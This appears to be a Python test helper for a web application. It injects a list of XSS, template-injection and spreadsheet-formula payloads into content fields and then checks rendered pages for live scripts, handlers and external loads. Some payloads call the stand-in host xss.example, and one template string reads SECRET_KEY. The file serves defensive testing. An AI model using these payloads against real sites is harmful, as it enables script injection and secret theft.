"""Texts that try to become more than text, and how to tell whether one did."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import count
from typing import Any

import html5lib
import msgspec

from content import markdown
from content.catalogue import Catalogue, Prose

SHORT = "\"'><xss-mark onload=x><script>xss()</script>"
"""Ends an attribute, an element and a script, and is short enough for a name."""

CORPUS = (
    SHORT,
    "<script>xss()</script>",
    "</script><script>xss()</script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><script>xss()</script>",
    "<!--<script>xss()</script>-->",
    "]]><script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<math><mi//xlink:href='data:x,<script>xss()</script>'>",
    "<iframe srcdoc='<script>xss()</script>'></iframe>",
    "<iframe src=javascript:xss()></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=//xss.example/x.swf>",
    "<base href=//xss.example/>",
    "<link rel=stylesheet href=//xss.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<form action=//xss.example/><input autofocus onfocus=xss()></form>",
    "<details open ontoggle=xss()>",
    "<body onpageshow=xss()>",
    "<style>@import '//xss.example/x.css';</style>",
    "<div style=background:url(//xss.example/x)>",
    "<div hx-get=//xss.example/ hx-trigger=load>",
    "<div data-hx-get=//xss.example/ data-hx-trigger=load>",
    "<div data-hx-on:load=xss()>",
    "<template><script>xss()</script></template>",
    "<noscript><p title='</noscript><script>xss()</script>'>",
    "<a href=javascript:xss()>x</a>",
    "<a href='jav&#x09;ascript:xss()'>x</a>",
    "<a href=//xss.example/>x</a>",
    "[x](javascript:xss())",
    "[x](JaVaScRiPt:xss())",
    "[x](jav&#x61;script:xss())",
    "[x](java%0ascript:xss())",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:xss)",
    "[x](//xss.example/)",
    "[x](\\\\xss.example)",
    "[x](/\\xss.example)",
    "![x](https://xss.example/x.png)",
    "![x](//xss.example/x.png)",
    '[x](https://example.org/ "\\" onmouseover=xss()")',
    "<javascript:xss()>",
    "<//xss.example/>",
    "[x]: javascript:xss()\n\n[x]",
    "`<script>xss()</script>`",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}",
    "\u202e<script>xss()</script>",
    "\u2028<script>xss()</script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "%3Cscript%3Exss()%3C/script%3E",
    '=HYPERLINK("//xss.example")',
)

_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "srcdoc", "xlink:href"}
_LIVE = ("javascript:", "vbscript:", "data:", "//", "\\\\", "/\\")
_NAME = re.compile(r"[a-z0-9_.:/-]+|F-\d+|[+0-9 ()-]+|https?://\S+|\d{4}-\d\d-\d\d")
_NEVER = {"xss-mark", "iframe", "object", "embed", "base", "math", "template", "details-x"}


def poisoned(content: Catalogue, text: str, prose: str) -> Catalogue:
    """The same content with every free text exchanged; names, numbers and addresses are kept.

    Each gets a number at its end, since some must differ.
    """
    changed: Catalogue = _poisoned(content, (f"{text} {number}" for number in count()), markdown.prose(prose))
    return changed


def _poisoned(value: Any, texts: Iterator[str], prose: Prose) -> Any:
    if isinstance(value, Prose):
        return prose if value.source else value
    if isinstance(value, msgspec.Struct):
        parts = {name: _poisoned(getattr(value, name), texts, prose) for name in value.__struct_fields__}
        return type(value)(**parts)
    if isinstance(value, tuple):
        return tuple(_poisoned(one, texts, prose) for one in value)
    if type(value) is str and value and not _NAME.fullmatch(value):
        return next(texts)
    return value


def live_nodes(page: str) -> list[str]:
    """What of a page would run, load from elsewhere, or lead to a script, as a browser parses it."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    return [trouble for node in tree.iter() for trouble in _trouble(node)]


def _trouble(node: Any) -> Iterator[str]:
    if not isinstance(node.tag, str):
        return  # a comment
    tag = node.tag.rpartition("}")[2]
    attributes = {str(name).lower(): value for name, value in node.attrib.items()}
    if tag in _NEVER:
        yield f"<{tag}>"
    is_data = attributes.get("type") in {"application/ld+json", "application/json"}
    if (
        tag == "script"
        and not is_data
        and not attributes.get("src", "").startswith(("/static/", "/admin/jsi18n/"))
    ):
        yield f"<script> {node.text}"
    if tag == "meta" and "xss" in attributes.get("content", "") and "http-equiv" in attributes:
        yield "<meta http-equiv>"
    for name, value in attributes.items():
        if name.startswith("on") or "xss" in name or name in {"style", "srcdoc"}:
            yield f"<{tag} {name}={value}>"
        if name.removeprefix("data-").startswith("hx-") and "xss" in value:
            yield f"<{tag} {name}={value}>"
        if name in _ADDRESSES and value.strip().lower().startswith(_LIVE):
            yield f"<{tag} {name}={value}>"
